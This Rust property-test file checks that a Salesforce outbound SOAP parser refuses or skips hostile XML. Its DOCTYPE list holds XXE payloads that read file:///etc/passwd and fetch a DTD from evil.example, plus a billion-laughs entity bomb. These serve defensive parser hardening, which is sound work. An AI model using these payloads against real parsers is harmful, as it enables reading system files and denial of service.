//! Structures real messages never have: DOCTYPEs, undeclared entities, deep nesting, piles of
//! attributes and namespace declarations, each put where a parser might follow it.

use proptest::prelude::*;
use proptest::test_runner::Config;
use salesforce::outbound::{
    MAX_ATTRIBUTES, MAX_NAMESPACES_IN_SCOPE, MAX_NOTIFICATIONS, OutboundError, parse_outbound,
};

use super::assert_parsed;
use super::model::{Envelope, envelope};
use crate::{check, depth, re};

/// Structures real messages never have, put where a parser might follow them.
#[derive(Debug, Clone)]
pub enum Hostile {
    /// A DOCTYPE (internal subset, external id, billion laughs) before the root: refused.
    Doctype(&'static str),
    /// `depth` nested elements in an unknown header element: skipped, the message parses.
    DeepUnknown(usize),
    /// `depth` nested elements in the SOAP header: skipped, the message parses.
    DeepSoapHeader(usize),
    /// Nested elements in a field value: refused (fields are leaves).
    DeepField(usize),
    /// Namespace declarations on one element: parsed up to the attribute cap.
    ManyNamespaces(usize),
    /// Plain attributes on one element: parsed up to the attribute cap.
    ManyAttributes(usize),
    /// Nested unknown elements declaring one namespace each: parsed while the bindings in scope
    /// stay under their cap.
    NestedNamespaces(usize),
    /// An entity that is not one of XML's five predefined ones: refused.
    UndeclaredEntity(String),
}

const DOCTYPES: &[&str] = &[
    "<!DOCTYPE x>",
    "<!DOCTYPE soapenv:Envelope [<!ENTITY a \"b\">]>",
    "<!DOCTYPE x SYSTEM \"file:///etc/passwd\">",
    "<!DOCTYPE x [<!ENTITY % p SYSTEM \"http://evil.example/p.dtd\"> %p;]>",
    "<!DOCTYPE l [<!ENTITY a \"aaaaaaaaaa\"><!ENTITY b \"&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;\"><!ENTITY c \"&b;&b;&b;&b;&b;&b;&b;&b;&b;&b;\">]>",
];

fn hostile() -> impl Strategy<Value = Hostile> {
    prop_oneof![
        prop::sample::select(DOCTYPES).prop_map(Hostile::Doctype),
        depth(50_000).prop_map(Hostile::DeepUnknown),
        depth(50_000).prop_map(Hostile::DeepSoapHeader),
        depth(50_000).prop_map(Hostile::DeepField),
        // 30,000 declarations are 800 KB, inside the size cap.
        depth(30_000).prop_map(Hostile::ManyNamespaces),
        depth(80_000).prop_map(Hostile::ManyAttributes),
        depth(2_000).prop_map(Hostile::NestedNamespaces),
        re("[a-z][a-z0-9]{0,8}")
            .prop_filter("predefined", |n| {
                !["amp", "lt", "gt", "quot", "apos"].contains(&n.as_str())
            })
            .prop_map(Hostile::UndeclaredEntity),
    ]
}

fn nested(depth: usize, text: &str) -> String {
    format!("{}{text}{}", "<d>".repeat(depth), "</d>".repeat(depth))
}

/// Where a hostile piece goes.
enum Place {
    BeforeRoot,
    /// Among the header elements of `<notifications>`, before `ActionId`.
    InHeader,
    /// Before `<soap:Body>`, where a SOAP header goes.
    BeforeBody,
    /// Inside the `<soap:Body` start tag, after its name.
    InBodyTag,
    /// At the start of a leaf's text.
    InLeaf(&'static str),
}

/// The piece, where it goes, and whether the envelope must still parse to the model.
fn piece(e: &Envelope, h: &Hostile) -> (String, Place, bool) {
    match h {
        Hostile::Doctype(d) => ((*d).to_owned(), Place::BeforeRoot, false),
        Hostile::DeepUnknown(n) => {
            let t = e.out_tag("FutureDeep");
            (
                format!("<{t}>{}</{t}>", nested(*n, "x")),
                Place::InHeader,
                true,
            )
        }
        Hostile::DeepSoapHeader(n) => {
            let deep = format!("<{0}:Header>{1}</{0}:Header>", e.soap, nested(*n, "y"));
            (deep, Place::BeforeBody, true)
        }
        Hostile::DeepField(n) => (nested(*n, ""), Place::InLeaf("OrganizationId"), false),
        Hostile::ManyNamespaces(n) | Hostile::ManyAttributes(n) => {
            let attr = |i| match h {
                Hostile::ManyNamespaces(_) => format!(" xmlns:N{i}=\"urn:n{i}\""),
                _ => format!(" a{i}=\"\""),
            };
            (
                (0..*n).map(attr).collect(),
                Place::InBodyTag,
                *n <= MAX_ATTRIBUTES,
            )
        }
        Hostile::NestedNamespaces(n) => {
            let t = e.out_tag("FutureNs");
            let open: String = (0..*n)
                .map(|i| format!("<{t} xmlns:Q{i}=\"urn:q\">"))
                .collect();
            let deep = format!("{open}{}", format!("</{t}>").repeat(*n));
            // In scope already: the SOAP and XSI prefixes, and the outbound namespace.
            (deep, Place::InHeader, 3 + n <= MAX_NAMESPACES_IN_SCOPE)
        }
        Hostile::UndeclaredEntity(name) => (format!("&{name};"), Place::InLeaf("ActionId"), false),
    }
}

/// The envelope with the hostile structure, and whether it must still parse to the model.
fn with_hostile(e: &Envelope, h: &Hostile) -> (String, bool) {
    let xml = e.render();
    let (piece, place, parses) = piece(e, h);
    let find = |needle: &str| xml.find(needle).unwrap();
    let at = match place {
        Place::BeforeRoot => find(&format!("<{}:Envelope", e.soap)),
        Place::InHeader => find(&format!("<{}>", e.out_tag("ActionId"))),
        Place::BeforeBody => find(&format!("<{}:Body>", e.soap)),
        Place::InBodyTag => find(&format!("<{}:Body>", e.soap)) + e.soap.len() + 6,
        Place::InLeaf(local) => {
            let tag = format!("<{}>", e.out_tag(local));
            find(&tag) + tag.len()
        }
    };
    (splice(&xml, at, &piece), parses)
}

fn splice(s: &str, at: usize, piece: &str) -> String {
    format!("{}{piece}{}", &s[..at], &s[at..])
}

pub fn hostile_xml_is_refused_or_skipped(config: Config) -> Result<(), String> {
    let small = envelope().prop_filter("few notes", |e| e.notes.len() <= MAX_NOTIFICATIONS);
    check(config, (small, hostile()), |(e, h)| {
        let (xml, parses) = with_hostile(&e, &h);
        let result = parse_outbound(xml.as_bytes());
        if parses {
            return assert_parsed(&result.map_err(|e| TestCaseError::fail(e.to_string()))?, &e);
        }
        let refused_as_expected = match (&h, &result) {
            (Hostile::Doctype(_), Err(OutboundError::Shape(why))) => why.contains("DOCTYPE"),
            (Hostile::DeepField(_), Err(OutboundError::Shape(_))) => true,
            (
                Hostile::ManyNamespaces(_)
                | Hostile::ManyAttributes(_)
                | Hostile::NestedNamespaces(_),
                Err(OutboundError::Shape(why)),
            ) => why.starts_with("more than"),
            (Hostile::UndeclaredEntity(_), Err(OutboundError::Xml(why))) => why.contains("entity"),
            _ => false,
        };
        prop_assert!(refused_as_expected, "{h:?} gave {result:?}");
        Ok(())
    })
}
